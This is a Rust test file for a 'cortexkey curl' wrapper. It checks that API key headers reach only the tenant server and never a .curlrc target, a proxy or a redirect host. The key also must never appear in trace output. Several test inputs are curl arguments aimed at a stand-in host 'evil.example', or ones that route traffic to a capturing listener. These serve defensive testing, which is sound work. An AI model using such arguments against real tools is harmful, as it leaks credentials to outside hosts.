//! `cortexkey curl` against a tenant, with a second server that must not receive the headers.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use crate::common::{Tenant, finish};

#[test]
fn curl_runs_with_the_headers_of_both_levels() {
    let tenant = Tenant::start();
    for level in ["standard", "advanced"] {
        for arguments in [
            &["curl", "--", "/api_keys/validate/", "-d", "{}"][..],
            &["curl", "--", &format!("{}/api_keys/validate/", tenant.url()), "-s", "-d", "{}"],
            &["curl", "/public_api/v1/healthcheck", "--silent", "--fail"],
        ] {
            let ran = finish(&mut tenant.with_key(level, arguments));
            assert_eq!(ran.code, 0, "{ran:?}");
            assert!(ran.stdout.contains("true") || ran.stdout.contains("available"), "{ran:?}");
        }
        let refused = finish(&mut tenant.with_key(level, &["curl", "/nowhere", "-s", "--fail"]));
        assert_eq!(refused.code, 1);
        assert!(refused.stderr.contains("22"), "curl's exit code: {refused:?}");
    }
}

#[test]
fn a_curlrc_gets_no_headers() {
    let tenant = Tenant::start();
    let home = tempfile::tempdir().unwrap();
    let trace = home.path().join("trace");
    let other = TcpListener::bind("127.0.0.1:0").unwrap();
    other.set_nonblocking(true).unwrap();
    let rc = format!(
        "url = http://{}/\ntrace-ascii = {}\n",
        other.local_addr().unwrap(),
        trace.display()
    );
    fs::write(home.path().join(".curlrc"), rc).unwrap();
    let mut curl = tenant.with_key("advanced", &["curl", "--", "/api_keys/validate/", "-d", "{}"]);
    let ran = finish(curl.env("HOME", home.path()));
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(!trace.exists() && other.accept().is_err());
}

#[test]
fn curl_calls_only_the_tenant() {
    let tenant = Tenant::start();
    for arguments in [
        &["curl", "--", "https://evil.example/"][..],
        &["curl", "--", "/x", "https://evil.example/"],
        &["curl", "--", "/x", "--silent", "evil.example"],
        &["curl", "--", "/x", "-L"],
        &["curl", "--", "@evil.example"],
        &["curl", "--", "/x", "--data", "@-"],
    ] {
        let ran = finish(&mut tenant.with_key("advanced", arguments));
        assert_eq!((ran.code, ran.stdout.as_str()), (2, ""), "{ran:?}");
    }
}

/// Accepts every connection, and stores what it receives.
struct Elsewhere {
    address: String,
    got: Arc<Mutex<Vec<u8>>>,
}

impl Elsewhere {
    fn listen() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap().to_string();
        let got = Arc::new(Mutex::new(Vec::new()));
        let to = Arc::clone(&got);
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let mut stream = stream.unwrap();
                let mut bytes = [0; 8192];
                let count = stream.read(&mut bytes).unwrap_or(0);
                to.lock().unwrap().extend_from_slice(&bytes[..count]);
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
            }
        });
        Self { address, got }
    }

    fn has(&self, key: &str) -> bool {
        String::from_utf8_lossy(&self.got.lock().unwrap()).contains(key)
    }
}

#[test]
fn the_key_uses_another_connection_only_if_allowed() {
    let tenant = Tenant::start();
    let elsewhere = Elsewhere::listen();
    let (_, key) = tenant.key("standard");
    let host = &elsewhere.address;
    let proxy = format!("http://{}", elsewhere.address);
    let to = format!("::{host}");
    for options in [
        &["--connect-to", &to][..],
        &["--proxy", &proxy, "--noproxy", ""],
        &["-x", &proxy, "--noproxy", ""],
        &["--preproxy", &proxy, "--noproxy", ""],
        &["--socks5", host, "--noproxy", ""],
    ] {
        let before = &["curl", "--", "/api_keys/validate/", "-s"][..];
        let ran = finish(&mut tenant.with_key("standard", &[before, options].concat()));
        assert_eq!(ran.code, 2, "{options:?}: {ran:?}");
        assert!(ran.stderr.contains("--allow-other-connection"), "{ran:?}");
    }
    // Variables name a proxy, but never for this machine.
    for name in ["http_proxy", "ALL_PROXY"] {
        let mut curl = tenant.with_key("standard", &["curl", "/api_keys/validate/", "-s"]);
        assert_eq!(finish(curl.env(name, &proxy)).code, 0);
    }
    assert!(!elsewhere.has(&key));

    let allowed = ["curl", "--allow-other-connection", "--", "/x", "-s", "--connect-to", &to];
    assert_eq!(finish(&mut tenant.with_key("standard", &allowed)).code, 0);
    assert!(elsewhere.has(&key));
}

#[test]
fn the_key_is_not_printed_and_the_headers_are_not_sent_twice() {
    let tenant = Tenant::start();
    let (_, key) = tenant.key("standard");
    for options in [
        &["-sv"][..],
        &["--trace", "-"],
        &["--trace-ascii", "%"],
        &["--libcurl", "-"],
        &["-d", "@/dev/stdin"],
        &["-T", "/dev/fd/0"],
        &["-F", "x=<-"],
        &["-w", "@-"],
        &["--no-globoff"],
        &["--retry", "2"],
        &["--next"],
    ] {
        for extra in [&[][..], &["--allow-other-connection"]] {
            let arguments = [&["curl"], extra, &["--", "/api_keys/validate/"], options].concat();
            let ran = finish(&mut tenant.with_key("standard", &arguments));
            assert_eq!((ran.code, ran.stdout.as_str()), (2, ""), "{options:?}: {ran:?}");
            assert!(!ran.stderr.contains(&key), "{options:?}");
        }
    }
    // The path is sent unchanged: curl does not expand it into a list.
    for path in ["/api_keys/validate?[1-3]", "/api_keys/validate{,/}"] {
        finish(&mut tenant.with_key("advanced", &["curl", "--", path, "-s"]));
    }
    let inspect = ["call", "GET", "/_cortexkey/requests"];
    let ran = finish(&mut tenant.with_key("standard", &inspect));
    let requests: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap();
    let paths = requests["requests"].as_array().unwrap().iter();
    let paths = paths.filter(|request| request["path"].as_str().unwrap().contains("validate"));
    assert_eq!(paths.count(), 2, "{requests}");
}
